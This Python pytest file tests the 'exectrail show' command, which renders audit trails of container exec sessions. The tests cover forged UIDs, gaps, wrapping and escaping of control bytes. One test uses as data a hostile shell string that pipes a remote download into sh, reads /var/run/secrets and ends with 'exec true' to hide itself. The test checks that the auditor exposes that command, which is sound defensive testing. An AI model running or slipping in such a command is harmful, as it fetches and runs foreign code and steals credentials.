"""`exectrail show`, from a trail to what the reader sees."""

import json
from collections.abc import Callable
from contextlib import redirect_stdout
from io import BytesIO, StringIO, TextIOWrapper
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from exectrail import cli
from exectrail.cli import session_tree
from exectrail.cli import show as show_module
from exectrail.cli.terminal import cells
from exectrail.cli.text import Clock
from exectrail.cli.wrapping import wrapped
from exectrail.contracts.record import Exit, Node, Record, Request, Resource, encode
from exectrail.reading import finding
from exectrail.reading import gaps as gaps_module
from exectrail.reading.gaps import Gaps
from exectrail.reading.session_list import in_order
from exectrail.reading.shell import join
from exectrail.reading.summary import from_records


def show(capsys: pytest.CaptureFixture[str], *argv: object) -> str:
    assert cli.run(["show", *map(str, argv)]) == 0
    return capsys.readouterr().out


def record(**fields: object) -> Record:
    told: dict[str, object] = {"version": "spo/v1_alpha", "audit_id": "a", "timestamp": "2026-11-23T14:58:03.120Z"}
    told |= {"node": Node("n"), "resource": Resource("shop", "web-0", "app"), "seq": 0, "prev": ""}
    return Record(**told | {"kind": "exec", "request_uid": "uid-1"} | fields)  # type: ignore[arg-type] # by keyword


def content(*records: Record) -> bytes:
    """A trail of a whole session with these records, numbered in their order."""
    start, end = record(kind="session", phase="start"), record(kind="session", phase="end")
    every = [start, *records, end]
    return b"".join(encode(replace(each, seq=seq)) for seq, each in enumerate(every))


@pytest.fixture
def tree(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
    def render(*records: Record) -> str:
        path = tmp_path / "trail.jsonl"
        path.write_bytes(content(*records))
        return show(capsys, "uid-1", path).partition("\n\n")[2]

    return render


def test_the_sample_trail_is_what_the_golden_file_holds(alice_file: Path, golden: Callable[[str, str], None]) -> None:
    golden("alice.jsonl", alice_file.read_text())


def test_alices_session_reads_as_the_golden_text(
    alice_file: Path, alice_uid: str, golden: Callable[[str, str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    golden("alice-show.txt", show(capsys, alice_uid, alice_file))


def test_alices_session_is_one_json_document_for_scripts(
    alice_file: Path, alice_uid: str, golden: Callable[[str, str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    output = show(capsys, alice_uid, alice_file, "-o", "json")
    golden("alice-show.json", output)

    document = json.loads(output)
    assert document["session"]["exit"] == {"code": 3}
    assert [process["pid"] for process in document["processes"]] == [4711, 4712, 4713, 4714, 4715, 4716]
    assert document["processes"][0]["argv"][:2] == ["sh", "-c"]


def test_lines_in_any_order_and_read_twice_make_the_same_picture(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    shuffled = alice_file.with_name("shuffled.jsonl")
    shuffled.write_bytes(b"".join(sorted(alice_file.read_bytes().splitlines(keepends=True), reverse=True)))

    assert show(capsys, alice_uid, shuffled, alice_file) == show(capsys, alice_uid, alice_file)


def test_the_beginning_of_a_uid_is_enough_if_it_means_one_session(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert alice_uid in show(capsys, alice_uid[:6], alice_file)


def of_two(**fields: object) -> Record:
    """A record of a process that two requests may have started."""
    told: dict[str, object] = {"request_uid": None, "origin": "session", "process_key": "b-7-1", "entry_key": "b-7-1"}
    return record(**told | {"candidates": ["uid-one", "uid-two"]} | fields)


@pytest.mark.parametrize(("uid", "other"), [("uid-one", "uid-two"), ("uid-two", "uid-one")])
def test_what_two_requests_may_have_started_is_shown_apart_for_each(
    uid: str, other: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "trail.jsonl"
    child = of_two(process_key="b-8-2", parent_key="b-7-1", argv=["id"], seq=1)
    path.write_bytes(b"".join(map(encode, (of_two(argv=["sh"]), child, of_two(kind="exit", exit=Exit(code=3), seq=2)))))

    shown = show(capsys, uid, path)
    document = json.loads(show(capsys, uid, path, "-o", "json"))

    assert "started by this request or by another" in shown
    assert f"sh  exit 3  other candidate: {other}" in shown
    assert "no process was recorded" not in shown
    assert document["processes"] == []
    assert [each["argv"] for each in document["ambiguous"]] == [["sh"], ["id"]]
    assert document["ambiguous"][0]["candidates"] == ["uid-one", "uid-two"]


def test_what_the_node_ran_while_a_request_was_open_is_not_that_requests(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "trail.jsonl"
    path.write_bytes(content(record(argv=["id"]), of_two(origin="node", candidates=["uid-1"])))

    assert "another" not in show(capsys, "uid-1", path)


def test_an_unknown_uid_exits_with_1_and_names_the_nearest(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["show", "0b5e7c1f", str(alice_file)]) == 1
    assert f"no session 0b5e7c1f; the nearest are {alice_uid}" in capsys.readouterr().err


def test_a_prefix_of_two_sessions_exits_with_1_and_names_both(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "trail.jsonl"
    path.write_bytes(encode(record(request_uid="abcdef-1")) + encode(record(request_uid="abcdef-2", seq=1)))

    assert cli.run(["show", "abcdef", str(path)]) == 1
    assert "2 sessions begin with abcdef: abcdef-1, abcdef-2" in capsys.readouterr().err


def test_five_characters_are_too_few_for_a_prefix(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["show", alice_uid[:5], str(alice_file)]) == 1


def test_each_program_of_a_process_has_a_line_with_all_its_arguments(tree: Callable[..., str]) -> None:
    text = tree(
        record(process_key="k", argv=["/bin/bash", "-l"], seq=1),
        record(process_key="k", argv=["python3", "-m", "http.server"], seq=2),
    )

    assert "└── /bin/bash -l\n        → python3 -m http.server  no exit recorded" in text


def test_a_tag_of_another_session_is_not_hidden(tree: Callable[..., str]) -> None:
    text = tree(
        record(process_key="k", entry_key="k", argv=["env", "SPO_EXEC_REQUEST_UID=uid-2", "sh"], seq=1),
        record(process_key="k", entry_key="k", argv=["sh"], seq=2),
    )

    assert "env SPO_EXEC_REQUEST_UID=uid-2 sh\n        → sh" in text


def test_an_applet_that_env_ran_without_an_exec_is_shown_without_the_tag(tree: Callable[..., str]) -> None:
    text = tree(record(process_key="k", entry_key="k", argv=["env", "SPO_EXEC_REQUEST_UID=uid-1", "id", "-u"]))

    assert "── id -u  by env, no exec of its own  no exit recorded" in text


def test_a_fork_of_a_fork_goes_by_the_program_that_forked_first(tree: Callable[..., str]) -> None:
    text = tree(
        record(process_key="a", argv=["/bin/sh"], seq=1),
        record(kind="clone", process_key="b", parent_key="a", seq=2),
        record(kind="clone", process_key="c", parent_key="b", seq=3),
        record(process_key="a", argv=["vi"], seq=4),
    )

    assert text.count("sh (fork)") == 2


@pytest.mark.parametrize(
    ("fields", "mark"),
    [
        ({"state": "forged"}, "forged"),
        ({"state": "unconfirmed"}, "unconfirmed"),
        ({"origin": "untracked"}, "untracked"),
        ({"weak": ["argv", "exit"]}, "weak: argv, exit"),
        ({"kind": "exit", "exit": Exit(signal="SIGKILL")}, "killed by SIGKILL"),
        ({"errno": "ENOENT"}, "nosuch  failed: ENOENT"),
        ({"kind": "syscall", "syscalls": ["ptrace"]}, "called ptrace"),
        ({"truncated": ["argv"]}, "nosuch … (cut: more arguments than are kept)"),
        ({"argv": None, "cmd_line": "ls -l"}, "ls -l  "),
        ({"argv": None, "program": "/bin/ls"}, "/bin/ls  "),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_special_about_a_process_is_marked(
    fields: dict[str, object], mark: str, tree: Callable[..., str]
) -> None:
    assert mark in tree(record(**{"process_key": "k", "argv": ["nosuch"]} | fields))


def test_processes_that_name_each_other_as_parent_are_still_shown(tree: Callable[..., str]) -> None:
    text = tree(
        record(process_key="a", parent_key="b", argv=["first"], seq=1),
        record(process_key="b", parent_key="a", argv=["second"], seq=2),
        record(process_key="c", parent_key="c", argv=["third"], seq=3),
    )

    assert all(text.count(name) == 1 for name in ("first", "second", "third"))


def test_a_chain_of_a_thousand_forks_is_shown(tree: Callable[..., str]) -> None:
    chain = [record(kind="clone", process_key=f"k{n}", parent_key=f"k{n - 1}", pid=n, seq=n) for n in range(1, 1001)]

    assert "pid 1000" in tree(*chain)


def test_no_control_byte_of_the_container_reaches_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "\x1b]0;owned\x07\x9b31m\u202e\r\n"
    node, place = Node(evil), Resource(evil, evil, evil)
    told = {"user": evil, "image": evil, "reason": evil, "weak": [evil], "node": node, "resource": place}
    request = Request(evil, evil, [evil])
    path = tmp_path / "trail.jsonl"
    path.write_bytes(
        encode(record(kind="session", phase="start", request=request, lost={evil: 1}, **told))
        + encode(record(process_key="k", argv=["sh", evil], seq=1, **told))
        + encode(record(process_key="l", argv=None, cmd_line=evil, errno=evil, seq=2, **told))
        + encode(record(kind="exit", process_key="m", exit=Exit(signal=evil), seq=3, **told))
    )

    for argv in (["show", "uid-1", path], ["sessions", path], ["show", "uid-1", path, "-o", "json"]):
        assert cli.run([str(word) for word in argv]) == 0
        printed = capsys.readouterr().out.replace("\n", "").replace("\t", "")
        assert printed.isprintable()


def test_a_session_whose_end_is_missing_says_so(alice_trail: list[Record], alice_uid: str) -> None:
    mine = [line for line in alice_trail if line.request_uid == alice_uid and line.phase != "end"]

    assert "no end recorded" in rendered(finding.Found(from_records(alice_uid, mine), list(map(encode, mine))))


def test_a_forged_record_does_not_change_the_user(alice_trail: list[Record], alice_uid: str) -> None:
    mine = [line for line in alice_trail if line.request_uid == alice_uid]
    forged = record(request_uid=alice_uid, state="forged", user="mallory", node=Node("elsewhere"), seq=10**6)

    assert from_records(alice_uid, [*mine, forged]) == from_records(alice_uid, mine)


GOLDEN = Path(__file__).parents[1] / "enricher" / "golden"


def test_who_else_carries_the_uid_is_no_process_of_the_session_and_it_is_said_why(
    capsys: pytest.CaptureFixture[str],
) -> None:
    trail = GOLDEN / "uid-that-is-used-again.jsonl"
    lines = show(capsys, "5682ae", trail).splitlines()
    document = json.loads(show(capsys, "5682ae", trail, "-o", "json"))

    assert "processes  1" in lines
    assert (
        "forged     1 process carries this UID as well: uid-contested (either of the two may have borrowed it)" in lines
    )
    assert lines[-2:] == [
        "├── id  pid 22800  exit 0  2 ms",
        "└── id  pid 22819  exit 0  2 ms  forged: uid-contested",
    ]
    assert document["forged"] == [{"entryKey": "669e1086-22819-2029394", "reason": "uid-contested"}]
    assert [each.get("reason") for each in document["processes"]] == [None, "uid-contested"]


def test_all_that_a_forger_starts_is_marked_and_each_forger_counts_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "trail.jsonl"
    records = [record(argv=["id"], process_key="own", entry_key="own", state="confirmed")]
    for key, why in (("b-1", "uid-used"), ("b-2", "other-command")):
        claims = {"state": "forged", "entry_key": key}
        records += [
            record(kind="session", phase="start", reason=why, process_key=key, **claims),
            record(argv=["sh"], process_key=key, **claims),
            record(argv=["ls"], process_key=f"{key}-child", parent_key=key, **claims),
            record(kind="session", phase="end", reason="restart", process_key=key, **claims),
        ]
    path.write_bytes(content(*records))

    shown = show(capsys, "uid-1", path)

    assert "processes  1\n" in shown
    assert "forged     2 processes carry this UID as well: uid-used, other-command\n" in shown
    assert (shown.count("forged: uid-used"), shown.count("forged: other-command")) == (2, 2)


def test_where_all_records_are_forged_their_processes_count(capsys: pytest.CaptureFixture[str]) -> None:
    shown = show(capsys, "5682ae", GOLDEN / "uid-that-was-meant-for-another-container.jsonl")

    assert "state      forged\n" in shown
    assert "processes  1\n" in shown
    assert "as well" not in shown


def test_a_request_that_shows_late_holds_for_all_that_its_process_did(capsys: pytest.CaptureFixture[str]) -> None:
    trail = GOLDEN / "request-that-shows-late.jsonl"
    shown = show(capsys, "5682ae", trail)

    assert "unconfirmed" not in shown
    assert "reason     late (the request showed only after its process had started)\n" in shown
    assert [each["state"] for each in json.loads(show(capsys, "5682ae", trail, "-o", "json"))["processes"]] == [
        "confirmed"
    ]
    assert show(capsys, "5682ae", trail, "--raw").count('"unconfirmed"') == 5


def test_a_uid_that_turns_out_forged_is_forged_for_all_that_its_process_did(tree: Callable[..., str]) -> None:
    claims = {"process_key": "b-1", "entry_key": "b-1"}
    text = tree(
        record(kind="session", phase="start", state="unconfirmed", **claims),
        record(argv=["id"], state="unconfirmed", **claims),
        record(kind="session", phase="start", state="forged", reason="other-command", **claims),
    )

    assert "id  no exit recorded  forged: other-command\n" in text


LATE_ENTRY: dict[str, object] = {"process_key": "b-7-1", "entry_key": "b-7-1"}
UNTAGGED: dict[str, object] = {"request_uid": None, "origin": "untracked"}
TAGGED: dict[str, object] = {"request_uid": "uid-0", "origin": "session", "state": "forged"}


def late_trail(before: dict[str, object]) -> bytes:
    """A process came in and ran something; its request showed later."""
    entry = LATE_ENTRY | before
    claim = record(kind="session", phase="start", reason="uid-used", **entry) if before is TAGGED else None
    whose = {"origin": "session", "user": "alice", "state": "confirmed"}
    asked = {"reason": "late", "request": Request("exec", "pods/exec", ["sh"]), "weak": ["requestUID", "user"]}
    records = [
        record(argv=["other"], process_key="b-1-1", entry_key="b-1-1", **UNTAGGED),
        *([claim] if claim else []),
        record(argv=["sh"], **entry),
        record(argv=["ls"], **entry | {"process_key": "b-8-2", "parent_key": "b-7-1"}),
        record(kind="session", phase="start", **LATE_ENTRY | whose | asked),
        record(kind="exit", exit=Exit(0), **LATE_ENTRY | whose),
        record(kind="session", phase="end", exit=Exit(0), outcome="completed", processes=2, **LATE_ENTRY | whose),
    ]
    return b"".join(encode(replace(each, seq=seq)) for seq, each in enumerate(records))


@pytest.mark.parametrize("before", [UNTAGGED, TAGGED], ids=["without a tag", "with the tag of another"])
def test_what_ran_before_the_request_showed_is_shown_with_it(
    before: dict[str, object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "trail.jsonl"
    path.write_bytes(late_trail(before))

    shown = show(capsys, "uid-1", path)

    assert "processes  2\n" in shown
    assert shown.partition("\n\n")[2] == (
        "alice exec shop/web-0/app\n"
        "└── sh  exit 0  weak: requestUID, user\n"
        "    └── ls  no exit recorded  weak: requestUID, user\n"
    )


def test_what_can_be_read_once_only_is_said_to_lack_what_ran_before_the_request_showed(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", TextIOWrapper(BytesIO(late_trail(UNTAGGED))))

    assert cli.run(["show", "uid-1", "-"]) == 3
    assert "standard input: cannot be read twice, so what ran before the request showed" in capsys.readouterr().err


def rendered(found: finding.Found) -> str:
    with redirect_stdout(StringIO()) as output:
        session_tree.show(found, Clock(utc=True), None)
    return output.getvalue()


_KEYS = st.sampled_from(["a", "b", "c", "d"])
_LINES = st.builds(
    record,
    kind=st.sampled_from(["exec", "clone", "exit", "syscall", "session", "gap", "digest"]),
    process_key=st.none() | _KEYS,
    parent_key=st.none() | _KEYS,
    entry_key=st.none() | _KEYS,
    argv=st.none() | st.lists(st.text()),
    cmd_line=st.none() | st.text(),
    user=st.none() | st.text(),
    errno=st.sampled_from([None, None, "ENOENT"]),
    exit=st.none() | st.builds(Exit, st.none() | st.integers(), st.none() | st.text()),
    duration_ms=st.none() | st.integers(-(2**62), 2**62),
    timestamp=st.text() | st.just("2026-11-23T14:58:03Z"),
    state=st.sampled_from([None, "confirmed", "unconfirmed", "forged"]),
    phase=st.sampled_from([None, "start", "end"]),
    request=st.none() | st.builds(Request, st.text(), st.text(), st.none() | st.lists(st.text())),
    resource=st.none() | st.builds(Resource, st.text(), st.text(), st.text()),
    lost=st.none() | st.dictionaries(st.text(), st.integers()),
    seq=st.integers(0, 5),
)


@given(st.lists(_LINES, max_size=12))
def test_any_mix_of_records_is_shown_and_no_process_twice(lines: list[Record]) -> None:
    found = finding.Found(from_records("uid-1", lines), list(map(encode, lines)))
    processes = show_module.document(found)["processes"]
    keys = [process["processKey"] for process in processes if process["processKey"]]

    assert sorted(keys) == sorted(
        {line.process_key for line in lines if line.process_key and line.kind in ("exec", "clone", "exit", "syscall")}
    )
    assert rendered(found)
    listed = list(in_order(record for record in lines if record.kind == "session"))
    assert len([it for it in listed if it.state != "forged"]) <= 1


def test_what_exec_true_would_hide_is_shown(tree: Callable[..., str]) -> None:
    attack = "curl -s http://198.51.100.7/x | sh; cat /var/run/secrets/*; exec true"

    text = tree(
        record(process_key="k", argv=["sh", "-c", attack], pid=7),
        record(process_key="k", argv=["true"]),
        record(kind="exit", process_key="k", exit=Exit(0)),
    )

    assert f"└── sh -c '{attack}'  pid 7\n        → true  exit 0\n" in text


def test_failed_execs_stand_among_the_programs_in_their_order(tree: Callable[..., str]) -> None:
    text = tree(
        record(process_key="k", argv=["sh"]),
        record(process_key="k", argv=["nosuch", "-x"], errno="ENOENT"),
        record(process_key="k", argv=["ls"]),
    )

    assert "sh\n        → nosuch -x  failed: ENOENT\n        → ls  " in text


def test_a_process_that_only_failed_to_run_a_program_is_a_fork(tree: Callable[..., str]) -> None:
    text = tree(
        record(process_key="a", argv=["/bin/sh"]),
        record(kind="clone", process_key="b", parent_key="a"),
        record(process_key="b", parent_key="a", argv=["nosuch"], errno="ENOENT"),
    )

    assert "└── sh (fork)\n            → nosuch  failed: ENOENT  no exit recorded" in text


LONG = ["sh", "-c", "echo " + " ".join(f"word{n}  two-spaces" for n in range(60)) + " 終わり" * 20]


@pytest.mark.parametrize("width", [40, 60, 80, 120, 200])
def test_a_long_command_is_wrapped_and_no_character_is_lost(
    width: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "trail.jsonl"
    path.write_bytes(content(record(process_key="k", argv=LONG)))

    text = show(capsys, "uid-1", path, "--width", width).partition("\n\n")[2]

    assert max(map(cells, text.splitlines())) <= width
    assert join(LONG) in "".join(line[8 if number > 1 else 4 :] for number, line in enumerate(text.splitlines()))


@given(st.lists(st.tuples(st.text(), st.just("")), max_size=4), st.integers(1, 30))
def test_wrapping_loses_nothing(parts: list[tuple[str, str]], width: int) -> None:
    lines = list(wrapped(parts, width))

    assert "".join(text for line in lines for text, _ in line) == "".join(text for text, _ in parts)
    assert all(sum(cells(text) for text, _ in line) <= max(width, 2) for line in lines)


def test_gaps_that_fall_into_the_session_are_shown_below_it(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = show(capsys, alice_uid, alice_file)
    document = json.loads(show(capsys, alice_uid, alice_file, "-o", "json"))

    assert "gap        2026-11-23 14:58:03 UTC: lost on its node: 3 ring (overrun)" in text
    assert [gap["lost"] for gap in document["gaps"]] == [{"ring": 3}]


@pytest.mark.parametrize(
    ("gap", "shown"),
    [
        ({"container_id": "c", "timestamp": "2026-11-23T14:58:04.000Z"}, True),
        ({"container_id": "other", "timestamp": "2026-11-23T14:58:04.000Z"}, False),
        ({"timestamp": "2026-11-23T14:58:04.000Z", "node": Node("other")}, False),
        ({"timestamp": "2026-11-23T14:58:02.000Z"}, False),
        ({"timestamp": "2026-11-23T15:58:04.000Z", "seq": 9}, False),
        ({"timestamp": "2026-11-23T15:58:04.000Z", "since": "2026-11-23T14:58:04.000Z", "seq": 9}, True),
    ],
    ids=["its container", "another container", "another node", "before", "after", "over its end"],
)
def test_a_gap_counts_where_and_when_the_session_was(gap: dict[str, object], shown: bool) -> None:
    mine = [
        record(container_id="c", seq=0),
        record(container_id="c", seq=5, timestamp="2026-11-23T14:58:05.000Z"),
    ]
    lost = record(**{"kind": "gap", "request_uid": None, "resource": None, "seq": 3} | gap)

    gaps = Gaps()
    gaps.add(lost)

    assert gaps.during(mine) == ([lost] if shown else [])


MORE_GAPS: dict[str, tuple[dict[str, Any], int]] = {
    "of another node": ({"node": Node("node-2")}, 0),
    "of another container": ({"container_id": "77"}, 0),
    "from before": ({"timestamp": "2026-11-23T14:00:00.000Z"}, 0),
    "from later": ({"timestamp": "2026-11-24T00:00:00.000Z"}, 3),
}


@pytest.mark.parametrize("command", ["show UID", "report UID --html -", "report --user alice --html -"])
@pytest.mark.parametrize("more", MORE_GAPS)
def test_however_many_gaps_there_are_none_of_a_sessions_is_dropped_unsaid(
    more: str,
    command: str,
    alice_trail: list[Record],
    alice_uid: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(gaps_module, "MOST", 3)
    fields, code = MORE_GAPS[more]
    own = next(each for each in alice_trail if each.kind == "gap")
    others = [replace(own, seq=22 + n, audit_id=str(n), **{"lost": {"quota": 1}} | fields) for n in range(4)]
    first, second = (alice_trail, others) if more != "from before" else (others, alice_trail)
    path = tmp_path / "trail.jsonl"
    path.write_bytes(b"".join(map(encode, [*first, *second])))

    assert cli.run([*command.replace("UID", alice_uid).split(), str(path)]) == code
    printed = capsys.readouterr()
    assert ("3 ring" in printed.out) == (code == 0)
    assert ("more gaps" in printed.out + printed.err) == (code == 3)


# ---- what is not the whole ----


def test_raw_prints_the_records_as_they_are_in_the_trail(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    raw = show(capsys, alice_uid, alice_file, "--raw").splitlines()

    assert raw == [line for line in alice_file.read_text().splitlines() if alice_uid in line]


@pytest.mark.parametrize("uid", ["", " "])
def test_an_empty_uid_is_an_error(uid: str, alice_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as stop:
        cli.run(["show", uid, str(alice_file)])

    assert stop.value.code == 2
    assert "argument UID: it is empty" in capsys.readouterr().err


def test_a_short_beginning_of_a_uid_says_how_long_it_must_be(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["show", alice_uid[:5], str(alice_file)]) == 1
    assert "the beginning of a UID needs 6 characters" in capsys.readouterr().err


def shown_of(lines: list[bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    path = tmp_path / "trail.jsonl"
    path.write_bytes(b"".join(lines))
    code = cli.run(["show", "uid-1", str(path)])
    return code, capsys.readouterr().err


@pytest.mark.parametrize(
    ("kept", "code", "sentence"),
    [
        ([0, 1, 2, 3, 4, 5], 0, ""),
        ([1, 2, 3, 4, 5], 3, "the session's beginning is not in what was read"),
        ([0, 1, 3, 4, 5], 3, "node n: 1 record is missing in what was read (seq 2)"),
    ],
    ids=["whole", "no beginning", "a hole"],
)
def test_what_is_not_provably_the_whole_is_said_and_exits_with_3(
    kept: list[int], code: int, sentence: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = [record(process_key=key) for key in "klm"]
    lines = [*content(*mine).splitlines(keepends=True), encode(record(request_uid="uid-2", seq=5))]

    found, err = shown_of([lines[at] for at in kept], tmp_path, capsys)

    assert found == code
    assert sentence in err


@pytest.mark.parametrize("genuine", [[record(user="alice", process_key="k")], []], ids=["with the session", "alone"])
def test_the_beginning_of_a_process_that_forged_the_uid_is_not_the_sessions(
    genuine: list[Record], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    claims = {"kind": "session", "state": "forged", "process_key": "other"}
    records = [*genuine, record(phase="start", **claims), record(phase="end", **claims)]

    code, err = shown_of([encode(replace(it, seq=seq)) for seq, it in enumerate(records)], tmp_path, capsys)

    assert code == (3 if genuine else 0)
    assert ("the session's beginning is not in what was read" in err) == bool(genuine)


def test_a_selection_of_a_sessions_records_is_said_to_be_one(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = [line for line in alice_file.read_bytes().splitlines(keepends=True) if alice_uid.encode() in line]
    alice_file.write_bytes(b"".join(mine))

    assert cli.run(["show", alice_uid, str(alice_file)]) == 3
    assert "only this session's records were read" in capsys.readouterr().err


def test_a_hole_before_or_after_a_session_whose_processes_have_ended_does_not_matter(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = [
        record(kind="session", phase="start", seq=10),
        record(process_key="k", seq=11),
        record(kind="exit", process_key="k", exit=Exit(0), seq=12),
        record(kind="session", phase="end", seq=13),
    ]
    others = [record(request_uid="uid-2", seq=seq) for seq in (5, 20)]
    lines = [encode(each) for each in [others[0], *mine, others[1]]]

    assert shown_of(lines, tmp_path, capsys) == (0, "")


def test_a_record_of_a_newer_version_is_counted_and_exits_with_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = content(record(process_key="k"), record(process_key="l")).splitlines(True)
    newer = [
        lines[1].replace(b'"kind":"exec"', b'"kind":"teleport"'),
        lines[2].replace(b"spo/v1_alpha", b"spo/v7"),
    ]

    code, err = shown_of([lines[0], *newer, lines[3]], tmp_path, capsys)

    assert code == 3
    assert "1 record is not understood (version spo/v7)" in err
    assert "teleport" in err


def test_a_missing_file_among_many_is_named(
    alice_file: Path, alice_uid: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["show", alice_uid, str(alice_file), "/nonexistent.jsonl"]) == 3
    printed = capsys.readouterr()
    assert "sleep 0.1" in printed.out
    assert "/nonexistent.jsonl: No such file or directory" in printed.err
